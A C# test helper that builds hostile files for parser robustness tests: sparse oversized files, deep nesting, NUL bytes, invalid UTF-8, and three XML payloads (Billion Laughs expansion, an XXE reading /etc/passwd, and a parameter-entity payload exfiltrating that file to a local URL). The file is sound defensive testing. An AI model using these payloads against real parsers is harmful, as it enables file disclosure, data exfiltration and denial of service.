using System.Text;

namespace Cpupolicy.Tests.Hostile;

/// <summary>
/// Makes hostile inputs on disk with bounded memory: sparse files (a length and no data), files streamed from a
/// repeated line, deep nesting, NUL bytes, invalid UTF-8 and the DTD tricks.
/// </summary>
public static class HostileFiles
{
    public const long Limit = 64L * 1024 * 1024;

    /// <summary>A file of <paramref name="length"/> NUL bytes that takes no disk: the size check must reject it unread.</summary>
    public static string Sparse(string path, long length, byte[]? head = null)
    {
        using var stream = new FileStream(path, FileMode.Create, FileAccess.Write);
        if (head is not null)
        {
            stream.Write(head);
        }

        stream.SetLength(length);
        return path;
    }

    /// <summary><paramref name="head"/>, then <paramref name="line"/> repeated up to <paramref name="length"/> bytes, written in chunks.</summary>
    public static string Repeated(string path, string head, string line, long length)
    {
        var chunk = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(line, Math.Max(1, 65536 / line.Length))));
        using var stream = new FileStream(path, FileMode.Create, FileAccess.Write);
        stream.Write(Encoding.UTF8.GetBytes(head));
        while (stream.Length + chunk.Length <= length)
        {
            stream.Write(chunk);
        }

        var lineBytes = Encoding.UTF8.GetBytes(line);
        while (stream.Length + lineBytes.Length <= length)
        {
            stream.Write(lineBytes);
        }

        return path;
    }

    public static string Write(string path, string text)
    {
        File.WriteAllText(path, text);
        return path;
    }

    public static string Write(string path, byte[] bytes)
    {
        File.WriteAllBytes(path, bytes);
        return path;
    }

    /// <summary>Valid text with a NUL byte in the middle.</summary>
    public static byte[] WithNul(string text) => Splice(text, [0x00]);

    /// <summary>Valid text with an invalid UTF-8 sequence (a lone continuation byte, an overlong form) in the middle.</summary>
    public static byte[] WithInvalidUtf8(string text) => Splice(text, [0xC3, 0x28, 0x80, 0xC0, 0xAF]);

    public static string DeepParens(int depth) => "profile p = " + new string('(', depth) + "{avx}" + new string(')', depth) + "\ndefault uses p\n";

    public static string DeepXml(string root, int depth) =>
        $"<{root}>" + string.Concat(Enumerable.Repeat("<a>", depth)) + string.Concat(Enumerable.Repeat("</a>", depth)) + $"</{root}>";

    /// <summary>Nested block sequences (<c>- - - -</c>) and then flow sequences: the YAML parser's recursion.</summary>
    public static string DeepYaml(int depth) =>
        "apiVersion: v1\nkind: Node\nmetadata:\n  labels:\n    x: " + new string('[', depth) + new string(']', depth) + "\n";

    public static string DeepJson(int depth) => new string('[', depth) + new string(']', depth);

    public static string BillionLaughs(string root) => $"""
        <?xml version="1.0"?>
        <!DOCTYPE {root} [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <{root}><name>&lol9;</name></{root}>
        """;

    public static string ExternalEntity(string root) => $"""
        <?xml version="1.0"?>
        <!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
        <{root}><name>&xxe;</name><model>&xxe;</model></{root}>
        """;

    public static string ParameterEntities(string root) => $"""
        <?xml version="1.0"?>
        <!DOCTYPE {root} [
          <!ENTITY % file SYSTEM "file:///etc/passwd">
          <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">
          %eval;
          %exfil;
        ]>
        <{root}><name>x</name></{root}>
        """;

    private static byte[] Splice(string text, byte[] inject)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var at = bytes.Length / 2;
        return [.. bytes[..at], .. inject, .. bytes[at..]];
    }
}
